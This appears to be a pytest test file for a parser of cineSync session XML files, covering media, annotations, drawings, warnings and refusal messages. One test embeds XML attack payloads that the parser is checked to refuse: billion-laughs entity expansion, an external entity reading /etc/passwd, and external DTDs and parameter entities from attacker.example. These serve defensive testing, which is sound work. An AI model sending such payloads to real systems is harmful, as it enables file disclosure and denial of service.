"""Reading session files: what each one holds, and what is refused with which words."""

from __future__ import annotations

import pytest

from syncd.connectors.cinesync import (
    Arrow,
    Circle,
    Erase,
    Line,
    Locators,
    Paint,
    PlayRange,
    Point,
    SessionError,
    Text,
    parse_session,
    read_session,
)
from tests.cinesync.helpers import FILES, load


def test_basic_session() -> None:
    s = load("basic.csc")
    assert s.version == 3
    assert s.features == "standard"
    assert s.user_data == "dailies tuesday, not json"
    assert s.notes == "Tuesday dailies.\nSecond line of session notes."
    assert s.groups == ()
    assert [m.name for m in s.media] == [
        "sq010_sh0040_comp_v012.mov",
        "sq010_sh0050_anim_v003.mp4",
        "sq020_sh0010_lay_v001.mov",
    ]
    first, second, third = s.media
    assert first.locators == Locators(
        paths=("/mnt/shows/orbit/sq010/sh0040/comp/sq010_sh0040_comp_v012.mov",)
    )
    assert first.play_range == PlayRange(1001, 1096, True)
    assert not first.active and first.current_frame is None and first.user_data is None
    assert second.active and second.current_frame == 17
    assert second.locators.urls == ("https://review.example.com/orbit/sq010_sh0050_anim_v003.mp4",)
    assert second.locators.short_hashes == ("3b1f0c9e27d4a85f6e0b19c2d7a3e4f5061728a9",)
    assert third.notes == "Camera feels late.\nTry the earlier take."
    assert [(a.frame, a.notes, a.drawings) for a in third.annotations] == [
        (12, "Horizon tilts here & the pole <left> pops.", ())
    ]
    assert third.user_data is not None and third.user_data.startswith('{"shotgun":')
    assert s.warnings == ()


def test_groups_and_every_drawing_object() -> None:
    s = load("groups-crlf.csc")
    assert s.features == "pro"
    assert s.groups == ("Hero shots", "Unused", "Stock")
    assert [(m.name, m.groups) for m in s.media] == [
        ("hero_sh0100_v007.mov", ()),
        ("hero_sh0110_v002.mov", ("Hero shots",)),
        ("stock_clouds_04.mov", ("Stock",)),
    ]
    hero = s.media[0]
    assert hero.locators.paths == (r"D:\Projects\Orbit\renders\hero_sh0100_v007.mov",)
    assert [a.frame for a in hero.annotations] == [1, 24, 25]
    frame1, frame24, frame25 = hero.annotations
    assert [type(d) for d in frame1.drawings] == [Circle, Arrow, Arrow, Line]
    circle, plain, curved, line = frame1.drawings
    assert circle == Circle(
        "#00ff66",
        1.0,
        Point(0.4125, 0.3),
        Point(0.5125, 0.45),
        id="7c1e2f30-1a2b-4c3d-8e9f-0a1b2c3d4e5f:4",
    )
    assert (plain.special, plain.flip_side, plain.reverse, plain.alpha) == (False, None, None, 0.8)
    assert (curved.special, curved.flip_side, curved.reverse) == (True, True, True)
    assert isinstance(line, Line) and line.thickness == 0.0025 and line.color == "#ff0000"
    assert [p.alpha for p in line.points] == [1.0, 0.9, 0.75]
    text, erase = frame24.drawings
    assert text == Text(
        "hold the pose\ntwo frames longer",
        Point(0.65, 0.3),
        Point(0.8, 0.1),
        Paint("#202040", 1.0),
        Paint("#ffffff", 1.0),
        id="7c1e2f30-1a2b-4c3d-8e9f-0a1b2c3d4e5f:9",
    )
    assert isinstance(erase, Erase) and erase.points == (Point(0.3, 0.3), Point(0.31, 0.305))
    assert frame24.notes == ""
    assert frame25.notes == "Same here." and len(frame25.drawings) == 1


def test_pro_features_are_read_where_modelled() -> None:
    s = load("pro.csc")
    matte, sky = s.media
    assert matte.play_range == PlayRange(12, 48, True)
    assert sky.play_range == PlayRange(1, 20, False)
    assert [(a.frame, a.notes) for a in matte.annotations] == [
        (30, "matte edge chatters"),
        (31, "worse here >> check the roto"),
    ]
    assert s.notes == ""


def test_stereo_session() -> None:
    s = load("stereo.csc")
    (media,) = s.media
    assert media.active and media.name == "rocket_stereo_sbs_2k.mov"
    (ann,) = media.annotations
    assert ann.frame == 1
    assert [len(d.points) for d in ann.drawings if isinstance(d, Line)] == [3, 2]
    assert ann.drawings[0].id == "a1b2c3d4-e5f6-4711-8899-aabbccddeeff:1"


def test_group_movie() -> None:
    s = load("groupmovie.csc")
    assert s.groups == ("Edit",)
    assert s.notes == "Reel one, first pass."
    reel, music, movie = s.media
    assert reel.groups == ("Edit",) and reel.play_range == PlayRange(100, 220, True)
    assert music.groups == ()
    assert movie.is_group_movie and movie.group_movie == "Edit"
    assert movie.name is None and not movie.locators and movie.annotations == ()
    assert s.warnings == ()  # a group movie needs no locator


def test_url_locators() -> None:
    s = load("urls.csc")
    assert [m.locators.urls for m in s.media] == [
        ("https://cdn.example.net/trailers/trailer_v9.mov",),
        ("ftp://ingest@ftp.example.net/plates/plate_0001.png",),
    ]
    assert [m.active for m in s.media] == [True, False]


def test_unknown_elements_do_not_disturb_reading() -> None:
    s = load("future.csc")
    (media,) = s.media
    assert media.user_data == ""
    assert len(media.locators.paths) == 2
    (ann,) = media.annotations
    assert (ann.frame, ann.notes, ann.drawings) == (7, "debris too uniform", ())
    assert s.notes == "Future elements must survive."


def test_untidy_media_is_read_with_warnings() -> None:
    """Frames below 1, duplicates and broken strokes are skipped, each with a warning."""
    s = load("untidy.csc")
    (media,) = s.media
    assert not media.has_locator
    assert media.current_frame is None and media.play_range is None
    (ann,) = media.annotations
    assert ann.frame == 5 and ann.notes == "first for five"
    assert [type(d) for d in ann.drawings] == [Circle]
    text = "\n".join(s.warnings)
    for expected in (
        "media 1 (lost_file.mov): has no locator",
        "annotation frame '0' is not a frame number of at least 1; skipped",
        "annotation frame '-3'",
        "annotation frame 'twelve'",
        "a second annotation for frame 5; skipped",
        "frame 5: a <line> that cannot be read (no <point>)",
        "currentFrame '0'",
        "a play range that cannot be read",
    ):
        assert expected in text
    assert all(w.startswith(str(FILES / "untidy.csc")) for w in s.warnings)


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("newer.csc", ["newer cineSync (session format version 4)", "upgrade syncd"]),
        ("wrong-namespace.csc", ["not a cineSync 3 session file", "session/5.0", "save it again"]),
        ("unknown-features.csc", ["sessionFeatures='deluxe'", "standard and pro"]),
        ("truncated.csc", ["not well-formed XML at line 4", "truncated or damaged", "backup"]),
    ],
)
def test_refused_files_say_which_and_what_to_do(name: str, words: list[str]) -> None:
    with pytest.raises(SessionError) as raised:
        load(name)
    message = str(raised.value)
    assert message.startswith(str(FILES / name) + ": ")
    for word in words:
        assert word in message


@pytest.mark.parametrize(
    "raw",
    [b"", b"just text", b"<html><body/></html>", b"\xff\xfe\x00garbage"],
)
def test_not_a_session_at_all(raw: bytes) -> None:
    with pytest.raises(SessionError, match=r"^upload\.csc: not a"):
        parse_session(raw, "upload.csc")


def test_older_version_refused() -> None:
    raw = b'<session xmlns="http://www.cinesync.com/ns/session/3.0" version="2" />'
    with pytest.raises(SessionError, match="version 2 predates cineSync 3"):
        parse_session(raw, "old.csc")


def test_missing_file_named() -> None:
    with pytest.raises(SessionError, match=r"nowhere\.csc: no such session file"):
        read_session(FILES / "nowhere.csc")


_HEAD = b'<?xml version="1.0" encoding="UTF-8" ?>\n'
_SESSION = (
    b'<session xmlns="http://www.cinesync.com/ns/session/3.0" version="3" '
    b'sessionFeatures="standard">'
)


@pytest.mark.parametrize(
    ("doctype", "body", "words"),
    [
        (  # billion laughs
            b'<!DOCTYPE session [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">'
            b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]>',
            b"<notes>&lol3;</notes>",
            ["entity 'lol'", "entity expansion"],
        ),
        (  # external entity reading a local file
            b'<!DOCTYPE session [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
            b"<notes>&secret;</notes>",
            ["external entity 'secret'", "file:///etc/passwd"],
        ),
        (  # a DTD fetched from the network
            b'<!DOCTYPE session SYSTEM "http://attacker.example/session.dtd">',
            b"<notes>hi</notes>",
            ["external DTD", "http://attacker.example/session.dtd", "fetches nothing"],
        ),
        (  # a parameter entity pulling a remote DTD in
            b'<!DOCTYPE session [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">'
            b" %remote;]>",
            b"<notes>hi</notes>",
            ["external entity 'remote'", "http://attacker.example/x.dtd"],
        ),
    ],
)
def test_xml_attacks_refused(doctype: bytes, body: bytes, words: list[str]) -> None:
    raw = _HEAD + doctype + b"\n" + _SESSION + body + b"</session>\n"
    with pytest.raises(SessionError) as raised:
        parse_session(raw, "/tmp/incoming/evil.csc")
    message = str(raised.value)
    assert message.startswith("/tmp/incoming/evil.csc: refused: ")
    assert "cineSync never writes one" in message
    for word in words:
        assert word in message


def test_text_in_any_script_and_size() -> None:
    notes = "镜头太暗。Камера поздно. ✨ كاميرا 🎬\n" * 20_000
    raw = (
        _HEAD
        + _SESSION
        + b"<media><name>\xe2\x9c\xa8 sh\xc3\xb8t.mov</name><locators><path>/p</path></locators>"
        + b"<notes>"
        + notes.replace("\n", "&#x0A;").encode()
        + b"</notes></media></session>"
    )
    (media,) = parse_session(raw).media
    assert media.name == "✨ shøt.mov"
    assert media.notes == notes


def test_other_encodings_are_read() -> None:
    text = (
        '<?xml version="1.0" encoding="UTF-16"?>' + _SESSION.decode() + "<notes>é</notes></session>"
    )
    assert parse_session(text.encode("utf-16")).notes == "é"


def test_frame_numbers_are_ascii_whole_numbers() -> None:
    raw = (
        _SESSION
        + b"<media><name>a</name><locators><path>/a</path></locators>"
        + '<annotation frame="\u0663"><notes>arabic-indic three</notes></annotation>'.encode()
        + b'<annotation frame="2.5"><notes>a fraction</notes></annotation>'
        + b'<annotation frame=" 4 "><notes>padded</notes></annotation>'
        + b"</media></session>"
    )
    s = parse_session(raw)
    assert [(a.frame, a.notes) for a in s.media[0].annotations] == [(4, "padded")]
    assert len(s.warnings) == 2
